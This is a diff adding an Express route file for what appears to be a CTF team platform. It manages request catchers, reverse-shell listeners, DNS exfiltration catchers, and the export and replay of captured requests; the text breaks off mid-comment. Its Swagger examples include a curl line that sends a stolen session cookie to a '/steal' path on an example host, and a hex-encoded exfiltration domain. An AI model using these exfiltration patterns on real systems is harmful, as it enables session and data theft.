@@ -0,0 +1,2023 @@
+import type { Request, Response } from "express";
+import express from "express";
+import { authenticateJWT } from "../../../../../middlewares/authMiddleware";
+import { validate } from "../../../../../middlewares/validationMiddleware";
+import {
+  attachShellViewer,
+  createEndpoint,
+  deleteEndpoint,
+  exportCapturedRequest,
+  exportEndpointRequests,
+  getEndpointById,
+  getEndpointRequests,
+  getEndpointRuleHistory,
+  getEndpointRules,
+  getDnsQueries,
+  getEndpointsByTeam,
+  getRequestReplays,
+  getShellSessions,
+  getShellTranscript,
+  replayCapturedRequest,
+  updateEndpoint,
+  updateEndpointRules,
+} from "../../../../../services/endpoints/endpointService";
+import { subscribeToEndpoint } from "../../../../../services/endpoints/requestStream";
+import { registerWebSocketRoute } from "../../../../../services/realtime/websocketServer";
+import { logError } from "../../../../../utils/logger";
+import { sendError, sendSuccess } from "../../../../../utils/responseHandler";
+import {
+  createEndpointSchema,
+  exportRequestsSchema,
+  getEndpointRequestsSchema,
+  replayRequestSchema,
+  updateEndpointRulesSchema,
+  updateEndpointSchema,
+} from "../../../../../validation/endpointValidation";
+
+const router = express.Router({ mergeParams: true });
+
+const STREAM_HEARTBEAT_INTERVAL = 25 * 1000; // 25 secondes
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints:
+ *   post:
+ *     summary: Créer un endpoint
+ *     description: |
+ *       Crée un request catcher public (/c/{token}) qui enregistre toutes les requêtes reçues et renvoie
+ *       une réponse configurable, un reverse shell dont le listener TCP est ouvert sur un port dédié,
+ *       ou un DNS catcher qui enregistre les requêtes DNS visant {token}.{zone DNS}.
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *     requestBody:
+ *       required: true
+ *       content:
+ *         application/json:
+ *           schema:
+ *             type: object
+ *             required:
+ *               - name
+ *             properties:
+ *               name:
+ *                 type: string
+ *                 description: Nom de l'endpoint
+ *                 example: XSS admin bot
+ *               type:
+ *                 type: string
+ *                 enum: [REQUEST_CATCHER, REVERSE_SHELL, DNS_CATCHER]
+ *                 default: REQUEST_CATCHER
+ *               expiresAt:
+ *                 type: string
+ *                 format: date-time
+ *                 description: Date d'expiration de l'endpoint (le listener d'un reverse shell est fermé à cette date)
+ *               response:
+ *                 type: object
+ *                 description: Réponse renvoyée à chaque requête capturée
+ *                 properties:
+ *                   status:
+ *                     type: integer
+ *                     example: 200
+ *                   headers:
+ *                     type: object
+ *                     description: "En-têtes de la réponse. Set-Cookie, Content-Security-Policy et X-Content-Type-Options sont refusés : la réponse est toujours servie avec Content-Security-Policy: sandbox et X-Content-Type-Options: nosniff"
+ *                     additionalProperties:
+ *                       type: string
+ *                   body:
+ *                     type: string
+ *     responses:
+ *       201:
+ *         description: Endpoint créé avec succès
+ *         content:
+ *           application/json:
+ *             schema:
+ *               allOf:
+ *                 - $ref: '#/components/schemas/SuccessResponse'
+ *                 - type: object
+ *                   properties:
+ *                     data:
+ *                       type: object
+ *                       properties:
+ *                         endpoint:
+ *                           type: object
+ *                           properties:
+ *                             id:
+ *                               type: string
+ *                               format: uuid
+ *                             name:
+ *                               type: string
+ *                             token:
+ *                               type: string
+ *                             url:
+ *                               type: string
+ *                               nullable: true
+ *                               description: URL publique du request catcher
+ *                             listener:
+ *                               type: string
+ *                               nullable: true
+ *                               description: Hôte et port du listener d'un reverse shell
+ *                               example: ctf.example.com:40000
+ *                             domain:
+ *                               type: string
+ *                               nullable: true
+ *                               description: Domaine d'un DNS catcher, à préfixer par les données à exfiltrer
+ *                               example: 3f2a9c.oob.example.com
+ *       400:
+ *         description: Données d'entrée invalides
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à créer un endpoint pour cette équipe
+ *       503:
+ *         description: Aucun port disponible pour un nouveau reverse shell
+ */
+router.post(
+  "/",
+  authenticateJWT,
+  validate(createEndpointSchema),
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId } = req.params;
+      const { name, type, expiresAt, response } = req.body;
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      const endpoint = await createEndpoint(
+        teamId,
+        userId,
+        name,
+        type || "REQUEST_CATCHER",
+        expiresAt ? new Date(expiresAt) : undefined,
+        response || {}
+      );
+
+      return sendSuccess(res, "Endpoint créé avec succès", { endpoint }, 201);
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de la création de l'endpoint"
+      );
+      if (error instanceof Error) {
+        if (
+          error.message === "Non autorisé à créer un endpoint pour cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACTION");
+        }
+        if (
+          error.message ===
+            "Aucun port disponible pour un nouveau reverse shell" ||
+          error.message === "Impossible d'ouvrir le listener du reverse shell"
+        ) {
+          return sendError(res, error.message, 503, "SHELL_UNAVAILABLE");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de la création de l'endpoint",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints:
+ *   get:
+ *     summary: Liste des endpoints d'une équipe
+ *     description: Récupère les request catchers de l'équipe avec leur nombre de requêtes capturées
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *     responses:
+ *       200:
+ *         description: Liste des endpoints récupérée avec succès
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ */
+router.get("/", authenticateJWT, async (req: Request, res: Response) => {
+  try {
+    const { teamId } = req.params;
+    const userId = req.user?.userId;
+
+    if (!userId) {
+      return sendError(
+        res,
+        "Utilisateur non authentifié",
+        401,
+        "NOT_AUTHENTICATED"
+      );
+    }
+
+    const endpoints = await getEndpointsByTeam(teamId, userId);
+
+    return sendSuccess(res, "Liste des endpoints récupérée avec succès", {
+      endpoints,
+    });
+  } catch (error) {
+    logError(
+      error instanceof Error ? error : new Error(String(error)),
+      "Erreur lors de la récupération des endpoints"
+    );
+    if (error instanceof Error) {
+      if (
+        error.message === "Non autorisé à accéder aux endpoints de cette équipe"
+      ) {
+        return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+      }
+    }
+    return sendError(
+      res,
+      "Erreur lors de la récupération des endpoints",
+      500,
+      "SERVER_ERROR"
+    );
+  }
+});
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}:
+ *   get:
+ *     summary: Détails d'un endpoint
+ *     description: Récupère un request catcher et sa configuration de réponse
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *     responses:
+ *       200:
+ *         description: Détails de l'endpoint récupérés avec succès
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ *       404:
+ *         description: Endpoint non trouvé
+ */
+router.get(
+  "/:endpointId",
+  authenticateJWT,
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId } = req.params;
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      const endpoint = await getEndpointById(endpointId, teamId, userId);
+
+      return sendSuccess(res, "Détails de l'endpoint récupérés avec succès", {
+        endpoint,
+      });
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de la récupération de l'endpoint"
+      );
+      if (error instanceof Error) {
+        if (error.message === "Endpoint non trouvé") {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de la récupération de l'endpoint",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}:
+ *   put:
+ *     summary: Modifier un endpoint
+ *     description: Modifie le nom, l'expiration ou la réponse renvoyée par un request catcher
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *     requestBody:
+ *       required: true
+ *       content:
+ *         application/json:
+ *           schema:
+ *             type: object
+ *             properties:
+ *               name:
+ *                 type: string
+ *               expiresAt:
+ *                 type: string
+ *                 format: date-time
+ *                 nullable: true
+ *               response:
+ *                 type: object
+ *                 properties:
+ *                   status:
+ *                     type: integer
+ *                   headers:
+ *                     type: object
+ *                     description: "En-têtes de la réponse. Set-Cookie, Content-Security-Policy et X-Content-Type-Options sont refusés : la réponse est toujours servie avec Content-Security-Policy: sandbox et X-Content-Type-Options: nosniff"
+ *                     additionalProperties:
+ *                       type: string
+ *                   body:
+ *                     type: string
+ *     responses:
+ *       200:
+ *         description: Endpoint modifié avec succès
+ *       400:
+ *         description: Données d'entrée invalides
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ *       404:
+ *         description: Endpoint non trouvé
+ */
+router.put(
+  "/:endpointId",
+  authenticateJWT,
+  validate(updateEndpointSchema),
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId } = req.params;
+      const { name, expiresAt, response } = req.body;
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      const endpoint = await updateEndpoint(endpointId, teamId, userId, {
+        name,
+        expiresAt:
+          expiresAt === undefined
+            ? undefined
+            : expiresAt && new Date(expiresAt),
+        response,
+      });
+
+      return sendSuccess(res, "Endpoint modifié avec succès", { endpoint });
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de la modification de l'endpoint"
+      );
+      if (error instanceof Error) {
+        if (error.message === "Endpoint non trouvé") {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de la modification de l'endpoint",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}:
+ *   delete:
+ *     summary: Supprimer un endpoint
+ *     description: Supprime un request catcher et toutes les requêtes capturées
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *     responses:
+ *       200:
+ *         description: Endpoint supprimé avec succès
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ *       404:
+ *         description: Endpoint non trouvé
+ */
+router.delete(
+  "/:endpointId",
+  authenticateJWT,
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId } = req.params;
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      await deleteEndpoint(endpointId, teamId, userId);
+
+      return sendSuccess(res, "Endpoint supprimé avec succès");
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de la suppression de l'endpoint"
+      );
+      if (error instanceof Error) {
+        if (error.message === "Endpoint non trouvé") {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de la suppression de l'endpoint",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}/requests:
+ *   get:
+ *     summary: Requêtes capturées par un endpoint
+ *     description: Récupère les requêtes reçues par un request catcher, de la plus récente à la plus ancienne
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *       - in: query
+ *         name: cursor
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de la dernière requête de la page précédente (nextCursor)
+ *       - in: query
+ *         name: limit
+ *         schema:
+ *           type: integer
+ *           minimum: 1
+ *           maximum: 200
+ *           default: 50
+ *         description: Nombre de requêtes par page
+ *     responses:
+ *       200:
+ *         description: Requêtes récupérées avec succès
+ *         content:
+ *           application/json:
+ *             schema:
+ *               allOf:
+ *                 - $ref: '#/components/schemas/SuccessResponse'
+ *                 - type: object
+ *                   properties:
+ *                     data:
+ *                       type: object
+ *                       properties:
+ *                         requests:
+ *                           type: array
+ *                           items:
+ *                             type: object
+ *                             properties:
+ *                               id:
+ *                                 type: string
+ *                                 format: uuid
+ *                               method:
+ *                                 type: string
+ *                               url:
+ *                                 type: string
+ *                               path:
+ *                                 type: string
+ *                               headers:
+ *                                 type: object
+ *                               body:
+ *                                 type: string
+ *                               ip:
+ *                                 type: string
+ *                               createdAt:
+ *                                 type: string
+ *                                 format: date-time
+ *                         nextCursor:
+ *                           type: string
+ *                           format: uuid
+ *                           nullable: true
+ *                           description: Curseur de la page suivante, null s'il n'y a plus de requêtes
+ *       400:
+ *         description: Paramètres de pagination invalides
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ *       404:
+ *         description: Endpoint non trouvé
+ */
+router.get(
+  "/:endpointId/requests",
+  authenticateJWT,
+  validate(getEndpointRequestsSchema),
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId } = req.params;
+      const { cursor, limit } = req.query as {
+        cursor?: string;
+        limit?: string;
+      };
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      const page = await getEndpointRequests(
+        endpointId,
+        teamId,
+        userId,
+        cursor,
+        limit ? Number(limit) : undefined
+      );
+
+      return sendSuccess(res, "Requêtes récupérées avec succès", page);
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de la récupération des requêtes"
+      );
+      if (error instanceof Error) {
+        if (error.message === "Endpoint non trouvé") {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de la récupération des requêtes",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}/dns-queries:
+ *   get:
+ *     summary: Requêtes DNS reçues par un DNS catcher
+ *     description: |
+ *       Récupère les requêtes DNS reçues pour le domaine du DNS catcher, de la plus récente à la plus ancienne.
+ *       Les labels placés avant le token sont décodés (hexadécimal puis base32) lorsque c'est possible.
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *       - in: query
+ *         name: cursor
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de la dernière requête de la page précédente (nextCursor)
+ *       - in: query
+ *         name: limit
+ *         schema:
+ *           type: integer
+ *           minimum: 1
+ *           maximum: 200
+ *           default: 50
+ *         description: Nombre de requêtes par page
+ *     responses:
+ *       200:
+ *         description: Requêtes DNS récupérées avec succès
+ *         content:
+ *           application/json:
+ *             schema:
+ *               allOf:
+ *                 - $ref: '#/components/schemas/SuccessResponse'
+ *                 - type: object
+ *                   properties:
+ *                     data:
+ *                       type: object
+ *                       properties:
+ *                         queries:
+ *                           type: array
+ *                           items:
+ *                             type: object
+ *                             properties:
+ *                               id:
+ *                                 type: string
+ *                                 format: uuid
+ *                               name:
+ *                                 type: string
+ *                                 example: 666c6167.3f2a9c.oob.example.com
+ *                               type:
+ *                                 type: string
+ *                                 example: A
+ *                               resolverIp:
+ *                                 type: string
+ *                               protocol:
+ *                                 type: string
+ *                                 enum: [udp, tcp]
+ *                               decoded:
+ *                                 type: string
+ *                                 nullable: true
+ *                                 example: flag
+ *                               createdAt:
+ *                                 type: string
+ *                                 format: date-time
+ *                         nextCursor:
+ *                           type: string
+ *                           format: uuid
+ *                           nullable: true
+ *       400:
+ *         description: Paramètres de pagination invalides
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ *       404:
+ *         description: Endpoint non trouvé
+ */
+router.get(
+  "/:endpointId/dns-queries",
+  authenticateJWT,
+  validate(getEndpointRequestsSchema),
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId } = req.params;
+      const { cursor, limit } = req.query as {
+        cursor?: string;
+        limit?: string;
+      };
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      const page = await getDnsQueries(
+        endpointId,
+        teamId,
+        userId,
+        cursor,
+        limit ? Number(limit) : undefined
+      );
+
+      return sendSuccess(res, "Requêtes DNS récupérées avec succès", page);
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de la récupération des requêtes DNS"
+      );
+      if (error instanceof Error) {
+        if (error.message === "Endpoint non trouvé") {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de la récupération des requêtes DNS",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}/export:
+ *   get:
+ *     summary: Exporter l'historique d'un endpoint
+ *     description: Exporte toutes les requêtes capturées par l'endpoint au format HAR ou en commandes curl prêtes à l'emploi
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *       - in: query
+ *         name: format
+ *         schema:
+ *           type: string
+ *           enum: [har, curl]
+ *           default: har
+ *         description: Format d'export
+ *       - in: query
+ *         name: targetUrl
+ *         schema:
+ *           type: string
+ *           format: uri
+ *         description: URL cible des commandes curl (URL d'origine par défaut)
+ *     responses:
+ *       200:
+ *         description: Fichier d'export
+ *         content:
+ *           application/json:
+ *             schema:
+ *               type: object
+ *               description: Document HAR 1.2
+ *           text/x-shellscript:
+ *             schema:
+ *               type: string
+ *               example: "curl -X POST 'https://flaghive.example.com/c/abc/steal' \\\n  -H 'content-type: application/json' \\\n  --data-raw '{\"cookie\":\"session=...\"}'"
+ *       400:
+ *         description: Paramètres d'export invalides
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ *       404:
+ *         description: Endpoint non trouvé
+ */
+router.get(
+  "/:endpointId/export",
+  authenticateJWT,
+  validate(exportRequestsSchema),
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId } = req.params;
+      const { format, targetUrl } = req.query as {
+        format?: "har" | "curl";
+        targetUrl?: string;
+      };
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      const file = await exportEndpointRequests(
+        endpointId,
+        teamId,
+        userId,
+        format || "har",
+        targetUrl
+      );
+
+      res.setHeader("Content-Type", file.contentType);
+      res.setHeader(
+        "Content-Disposition",
+        `attachment; filename="${encodeURIComponent(file.filename)}"`
+      );
+
+      res.send(file.content);
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de l'export des requêtes"
+      );
+      if (error instanceof Error) {
+        if (error.message === "Endpoint non trouvé") {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de l'export des requêtes",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}/requests/{requestId}/export:
+ *   get:
+ *     summary: Exporter une requête capturée
+ *     description: Exporte une requête capturée au format HAR ou en commande curl prête à l'emploi
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *       - in: path
+ *         name: requestId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de la requête capturée
+ *       - in: query
+ *         name: format
+ *         schema:
+ *           type: string
+ *           enum: [har, curl]
+ *           default: har
+ *         description: Format d'export
+ *       - in: query
+ *         name: targetUrl
+ *         schema:
+ *           type: string
+ *           format: uri
+ *         description: URL cible des commandes curl (URL d'origine par défaut)
+ *     responses:
+ *       200:
+ *         description: Fichier d'export
+ *         content:
+ *           application/json:
+ *             schema:
+ *               type: object
+ *               description: Document HAR 1.2
+ *           text/x-shellscript:
+ *             schema:
+ *               type: string
+ *               example: "curl -X POST 'https://flaghive.example.com/c/abc/steal' \\\n  -H 'content-type: application/json' \\\n  --data-raw '{\"cookie\":\"session=...\"}'"
+ *       400:
+ *         description: Paramètres d'export invalides
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ *       404:
+ *         description: Endpoint ou requête non trouvé
+ */
+router.get(
+  "/:endpointId/requests/:requestId/export",
+  authenticateJWT,
+  validate(exportRequestsSchema),
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId, requestId } = req.params;
+      const { format, targetUrl } = req.query as {
+        format?: "har" | "curl";
+        targetUrl?: string;
+      };
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      const file = await exportCapturedRequest(
+        requestId,
+        endpointId,
+        teamId,
+        userId,
+        format || "har",
+        targetUrl
+      );
+
+      res.setHeader("Content-Type", file.contentType);
+      res.setHeader(
+        "Content-Disposition",
+        `attachment; filename="${encodeURIComponent(file.filename)}"`
+      );
+
+      res.send(file.content);
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de l'export de la requête"
+      );
+      if (error instanceof Error) {
+        if (
+          error.message === "Endpoint non trouvé" ||
+          error.message === "Requête non trouvée"
+        ) {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de l'export de la requête",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}/requests/{requestId}/replay:
+ *   post:
+ *     summary: Rejouer une requête capturée
+ *     description: |
+ *       Renvoie la requête capturée (méthode, en-têtes et corps) depuis le serveur vers l'URL cible choisie,
+ *       puis enregistre la réponse obtenue à côté de la requête d'origine. Les redirections ne sont pas suivies.
+ *       L'hôte cible doit figurer dans REPLAY_ALLOWED_HOSTS et résoudre vers des adresses publiques : boucle
+ *       locale, réseaux privés et adresses de lien local sont refusés. Le corps de la réponse est tronqué à 1 Mio.
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *       - in: path
+ *         name: requestId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de la requête capturée
+ *     requestBody:
+ *       required: true
+ *       content:
+ *         application/json:
+ *           schema:
+ *             type: object
+ *             required:
+ *               - targetUrl
+ *             properties:
+ *               targetUrl:
+ *                 type: string
+ *                 format: uri
+ *                 example: https://challenge.example.com/admin
+ *     responses:
+ *       201:
+ *         description: Requête rejouée
+ *         content:
+ *           application/json:
+ *             schema:
+ *               allOf:
+ *                 - $ref: '#/components/schemas/SuccessResponse'
+ *                 - type: object
+ *                   properties:
+ *                     data:
+ *                       type: object
+ *                       properties:
+ *                         replay:
+ *                           type: object
+ *                           properties:
+ *                             id:
+ *                               type: string
+ *                               format: uuid
+ *                             targetUrl:
+ *                               type: string
+ *                             responseStatus:
+ *                               type: integer
+ *                               nullable: true
+ *                             responseHeaders:
+ *                               type: object
+ *                               nullable: true
+ *                             responseBody:
+ *                               type: string
+ *                               nullable: true
+ *                             error:
+ *                               type: string
+ *                               nullable: true
+ *                               description: Erreur réseau si la cible n'a pas répondu
+ *                             durationMs:
+ *                               type: integer
+ *       400:
+ *         description: URL cible invalide ou hôte introuvable
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe, rejeu désactivé ou hôte cible non autorisé
+ *       404:
+ *         description: Endpoint ou requête non trouvé
+ */
+router.post(
+  "/:endpointId/requests/:requestId/replay",
+  authenticateJWT,
+  validate(replayRequestSchema),
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId, requestId } = req.params;
+      const { targetUrl } = req.body;
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      const replay = await replayCapturedRequest(
+        requestId,
+        endpointId,
+        teamId,
+        userId,
+        targetUrl
+      );
+
+      return sendSuccess(res, "Requête rejouée", { replay }, 201);
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors du rejeu de la requête"
+      );
+      if (error instanceof Error) {
+        if (
+          error.message === "Endpoint non trouvé" ||
+          error.message === "Requête non trouvée"
+        ) {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+        if (
+          error.message === "Le rejeu de requêtes est désactivé" ||
+          error.message === "Hôte cible non autorisé"
+        ) {
+          return sendError(res, error.message, 403, "TARGET_NOT_ALLOWED");
+        }
+        if (error.message === "Hôte cible introuvable") {
+          return sendError(res, error.message, 400, "INVALID_TARGET");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors du rejeu de la requête",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}/requests/{requestId}/replays:
+ *   get:
+ *     summary: Rejeux d'une requête capturée
+ *     description: Récupère les rejeux d'une requête et les réponses obtenues, du plus récent au plus ancien
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
